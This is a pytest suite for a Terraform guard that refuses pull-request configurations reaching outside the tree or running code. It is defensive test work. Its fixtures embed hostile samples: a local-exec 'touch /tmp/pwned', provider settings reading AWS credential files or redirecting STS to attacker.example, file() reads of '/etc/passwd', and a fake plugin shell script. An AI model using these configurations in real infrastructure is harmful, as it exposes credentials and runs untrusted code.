"""The guard of the local stack on a pull request's Terraform: every module, provider setting
and file read it cannot judge is refused at its file and line, and the workspace terraform runs
in holds exactly the files the guard read (no skipped directory, no link, no state, no plugin
directory). Pure: no terraform, no services."""

from pathlib import Path

import pytest

from policies.sources import Sources
from policies.tfguard import Guarded, guard
from policies.tree import Tree

ROOT_TF = 'provider "aws" {\n  region = "us-east-1"\n}\n\n'
EXEC_MODULE = (
    'resource "terraform_data" "x" {\n'
    '  provisioner "local-exec" {\n    command = "touch /tmp/pwned"\n  }\n}\n'
)


def _tree(tmp_path: Path, files: dict[str, str]) -> Path:
    tree = tmp_path / "tree"
    for name, text in {"envs/pr/main.tf": ROOT_TF, **files}.items():
        (tree / name).parent.mkdir(parents=True, exist_ok=True)
        (tree / name).write_text(text)
    return tree


def _guarded(tree: Path, exclude: tuple[str, ...] = ()) -> Guarded:
    sources = Sources(tree, exclude=exclude)
    return guard(sources, Tree(sources).terraform.roots)


def _refused(guarded: Guarded) -> list[tuple[str, int, str]]:
    return [(r.path.name, r.line, r.what) for r in guarded.refusals]


def _calling(source: str) -> str:
    return ROOT_TF + f'module "m" {{\n  source = "{source}"\n}}\n'


@pytest.mark.parametrize("skipped", ["node_modules", ".venv", ".tox", ".terraform"])
def test_a_module_in_a_directory_the_walk_skips_is_refused_and_never_copied(tmp_path, skipped):
    tree = _tree(
        tmp_path,
        {
            "envs/pr/main.tf": _calling(f"../../{skipped}/m"),
            f"{skipped}/m/main.tf": EXEC_MODULE,
        },
    )
    guarded = _guarded(tree)
    assert _refused(guarded) == [("main.tf", 5, f'module "m" source ../../{skipped}/m')]
    assert skipped in guarded.refusals[0].why
    assert not any(skipped in p.parts for p in guarded.files)


def test_a_module_directory_that_is_a_link_inside_the_tree_is_refused(tmp_path):
    tree = _tree(tmp_path, {"envs/pr/main.tf": _calling("../../mods/m"), "real/m/main.tf": "\n"})
    (tree / "mods").mkdir()
    (tree / "mods" / "m").symlink_to(tree / "real" / "m")
    guarded = _guarded(tree)
    assert _refused(guarded) == [("main.tf", 5, 'module "m" source ../../mods/m')]
    assert "link" in guarded.refusals[0].why


def test_a_module_the_configuration_excludes_is_refused(tmp_path):
    tree = _tree(
        tmp_path, {"envs/pr/main.tf": _calling("../../vendor/m"), "vendor/m/main.tf": EXEC_MODULE}
    )
    guarded = _guarded(tree, exclude=("vendor/*",))
    assert _refused(guarded) == [("main.tf", 5, 'module "m" source ../../vendor/m')]
    assert "excluded" in guarded.refusals[0].why


HOSTILE_PROVIDER_SETTINGS = {
    "shared_credentials_files": 'shared_credentials_files = ["/root/.aws/credentials"]',
    "shared_config_files": 'shared_config_files = ["/root/.aws/config"]',
    "profile": 'profile = "prod"',
    "custom_ca_bundle": 'custom_ca_bundle = "/etc/ssl/private/ca.pem"',
    "http_proxy": 'http_proxy = "http://proxy.example:3128"',
    "token": 'token = "session-token"',
    "ec2_metadata_service_endpoint": 'ec2_metadata_service_endpoint = "http://169.254.169.254"',
    "assume_role": 'assume_role {\n    role_arn = "arn:aws:iam::123456789012:role/admin"\n  }',
    "assume_role_with_web_identity": (
        "assume_role_with_web_identity {\n"
        '    role_arn = "arn:aws:iam::123456789012:role/ci"\n'
        '    web_identity_token_file = "/var/run/secrets/token"\n  }'
    ),
    "endpoints": 'endpoints {\n    sts = "http://attacker.example"\n  }',
}


@pytest.mark.parametrize("setting", sorted(HOSTILE_PROVIDER_SETTINGS))
@pytest.mark.parametrize("where", ["root default", "root alias", "child module"])
def test_a_provider_setting_that_reads_files_or_names_hosts_is_refused(tmp_path, setting, where):
    alias = '  alias = "other"\n' if where != "root default" else ""
    block = (
        f'provider "aws" {{\n{alias}  region = "eu-west-1"\n'
        f"  {HOSTILE_PROVIDER_SETTINGS[setting]}\n}}\n"
    )
    if where == "child module":
        files = {"envs/pr/main.tf": _calling("../../modules/m"), "modules/m/main.tf": block}
    else:
        files = {
            "envs/pr/main.tf": ROOT_TF.replace('provider "aws" {\n  region = "us-east-1"\n}\n', "")
            + block
        }
    guarded = _guarded(_tree(tmp_path, files))
    refused = [r for r in guarded.refusals if r.what == f'provider "aws" {setting}']
    assert len(refused) == 1, _refused(guarded)
    assert not [r for r in guarded.refusals if r not in refused]


def test_safe_provider_settings_pass_and_every_configuration_is_listed(tmp_path):
    files = {
        "envs/pr/main.tf": ROOT_TF + 'provider "aws" {\n  alias = "use1"\n  region = "us-east-1"\n'
        '  default_tags {\n    tags = { team = "platform" }\n  }\n}\n'
        + 'module "m" {\n  source = "../../modules/m"\n}\n',
        "modules/m/main.tf": 'provider "aws" {\n  alias = "logs"\n}\n',
    }
    tree = _tree(tmp_path, files)
    guarded = _guarded(tree)
    assert guarded.refusals == []
    base = Sources(tree).base
    assert guarded.providers == {
        base / "envs" / "pr": {"", "use1"},
        base / "modules" / "m": {"logs"},
    }


@pytest.mark.parametrize(
    "block, what",
    [
        (
            'data "terraform_remote_state" "net" {\n  backend = "local"\n'
            '  config = { path = "/srv/prod/terraform.tfstate" }\n}\n',
            'data "terraform_remote_state" "net"',
        ),
        (
            'check "up" {\n  data "http" "site" {\n    url = "http://10.0.0.1/"\n  }\n'
            '  assert {\n    condition = true\n    error_message = "x"\n  }\n}\n',
            'data "http" "site"',
        ),
        ("locals {\n  k = file(var.key_path)\n}\n", "file(var.key_path)"),
        (
            'locals {\n  k = file("${path.module}/${var.name}")\n}\n',
            'file("${path.module}/${var.name}")',
        ),
        ('locals {\n  k = file("/root/.aws/credentials")\n}\n', 'file("/root/.aws/credentials")'),
        ('locals {\n  k = file("../../../../etc/passwd")\n}\n', 'file("../../../../etc/passwd")'),
        ('locals {\n  k = fileset(path.module, "*.json")\n}\n', 'fileset(path.module, "*.json")'),
        (
            'resource "local_file" "key" {\n  filename = "${path.module}/key.pem"\n'
            '  content = "x"\n}\n',
            'resource "local_file" "key"',  # once: refused whole, its filename is its own
        ),
        (
            'resource "aws_lambda_function" "f" {\n  function_name = "f"\n  role = "r"\n'
            '  filename = "${path.module}/${var.zip}"\n}\n',
            "aws_lambda_function.f.filename",
        ),
    ],
)
def test_blocks_and_file_reads_that_reach_outside_are_refused(tmp_path, block, what):
    guarded = _guarded(_tree(tmp_path, {"envs/pr/extra.tf": block}))
    assert [r.what for r in guarded.refusals] == [what]
    assert guarded.refusals[0].path.name == "extra.tf"


def test_a_template_that_reads_files_is_refused(tmp_path):
    tree = _tree(
        tmp_path,
        {
            "envs/pr/extra.tf": 'locals {\n  t = templatefile("${path.module}/t.tpl", {})\n}\n',
            "envs/pr/t.tpl": '${file("/root/.aws/credentials")}\n',
        },
    )
    guarded = _guarded(tree)
    assert [r.what.split(": ")[-1] for r in guarded.refusals] == ["template calls file()"]


def test_the_workspace_holds_exactly_what_the_guard_read(tmp_path):
    tree = _tree(
        tmp_path,
        {
            "envs/pr/main.tf": _calling("../../modules/fn"),
            "envs/pr/terraform.tfvars": 'name = "pr"\n',
            "envs/pr/terraform.d/plugins/registry.terraform.io/hashicorp/aws/9.9.9/linux_amd64/"
            "terraform-provider-aws_v9.9.9": "#!/bin/sh\ntouch /tmp/pwned\n",
            "envs/pr/terraform.tfstate": '{"secret": "s3cr3t"}\n',
            "envs/pr/.terraformrc": 'plugin_cache_dir = "/tmp"\n',
            "modules/fn/main.tf": (
                'resource "aws_lambda_function" "f" {\n  function_name = "f"\n  role = "r"\n'
                '  filename = "${path.module}/fn.zip"\n'
                '  source_code_hash = filebase64sha256("${path.module}/fn.zip")\n'
                '  description = file("${path.module}/../../shared/description.txt")\n}\n'
            ),
            "modules/fn/fn.zip": "PK\n",
            "modules/fn/notes.md": "not read by Terraform\n",
            "shared/description.txt": "shared text\n",
        },
    )
    guarded = _guarded(tree)
    assert guarded.refusals == []
    base = Sources(tree).base
    assert sorted(str(p.relative_to(base)) for p in guarded.files) == [
        "envs/pr/main.tf",
        "envs/pr/terraform.tfvars",
        "modules/fn/fn.zip",
        "modules/fn/main.tf",
        "shared/description.txt",
    ]


KEY_OF_TREE = """
import sys
from policies.sources import Sources
from policies.targets.warm import stack_key
from policies.tfguard import guard
from policies.tree import Tree

sources = Sources(sys.argv[1])
roots = Tree(sources).terraform.roots
guarded = guard(sources, roots)
print(stack_key(sources.base, roots, guarded, None).get("cold", "keyed"))
print(sorted(r.what for r in guarded.refusals))
"""


def test_the_warm_key_opens_no_pipe_device_or_link_out(tmp_path):
    """The warm key once hashed every file of the roots by opening it: a named pipe hung the
    run, a link to /dev/zero never ended. It now hashes what the guard read."""
    import os
    import subprocess
    import sys

    tree = _tree(
        tmp_path,
        {"envs/pr/fn.tf": 'locals {\n  z = filebase64sha256("${path.module}/payload.zip")\n}\n'},
    )
    root = tree / "envs" / "pr"
    os.mkfifo(root / "pipe.tf")
    os.mkfifo(root / "notes.txt")
    os.mkfifo(root / "payload.zip")
    (root / "zero.tfvars").symlink_to("/dev/zero")
    done = subprocess.run(
        [sys.executable, "-c", KEY_OF_TREE, str(tree)],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    cold, refused = done.stdout.splitlines()
    assert cold.startswith("the tree runs code or reads outside it"), done.stdout
    assert refused == str(['filebase64sha256("${path.module}/payload.zip")'])


def test_a_file_read_through_a_link_out_is_refused_and_not_copied(tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("c4n4ry\n")
    tree = _tree(
        tmp_path, {"envs/pr/extra.tf": 'locals {\n  x = file("${path.module}/leak.txt")\n}\n'}
    )
    (tree / "envs" / "pr" / "leak.txt").symlink_to(outside)
    guarded = _guarded(tree)
    assert [r.what for r in guarded.refusals] == ['file("${path.module}/leak.txt")']
    assert all(b"c4n4ry" not in data for data in guarded.files.values())
